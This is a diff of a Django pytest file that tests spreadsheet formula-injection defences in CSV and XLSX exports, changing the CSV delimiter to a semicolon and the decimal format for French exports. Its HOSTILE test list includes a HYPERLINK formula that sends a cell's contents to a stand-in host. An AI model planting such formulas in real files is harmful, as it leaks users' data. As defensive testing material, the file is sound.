@@ -23,8 +23,9 @@ pytestmark = pytest.mark.django_db
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
 
 
-def csv_cells(content: bytes) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+def csv_cells(content: bytes, delimiter: str = ";") -> list[list[str]]:
+    """The cells of a CSV file; ";" by default, the separator of a French export."""
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))
 
 
 def xlsx_cells(content: bytes) -> list[tuple[object, ...]]:
@@ -53,7 +54,10 @@ def test_numbers_and_plain_text_are_left_as_they_are():
     assert inert(Decimal("-1.5")) == Decimal("-1.5")
     assert inert("Amina Benali") == "Amina Benali"
     assert inert(None) == ""
-    assert csv_cells(csv_bytes([[-3, Decimal("12.50"), "a-b"]])) == [["-3", "12.50", "a-b"]]
+    assert csv_cells(csv_bytes([[-3, Decimal("12.50"), "a-b"]])) == [["-3", "12,50", "a-b"]]
+    assert csv_cells(csv_bytes([[-3, Decimal("12.50"), "a-b"]], sep="comma"), ",") == [
+        ["-3", "12.50", "a-b"]
+    ]
 
 
 def test_xlsx_writes_formula_text_as_a_string_cell_with_its_text_and_numbers_as_numbers():
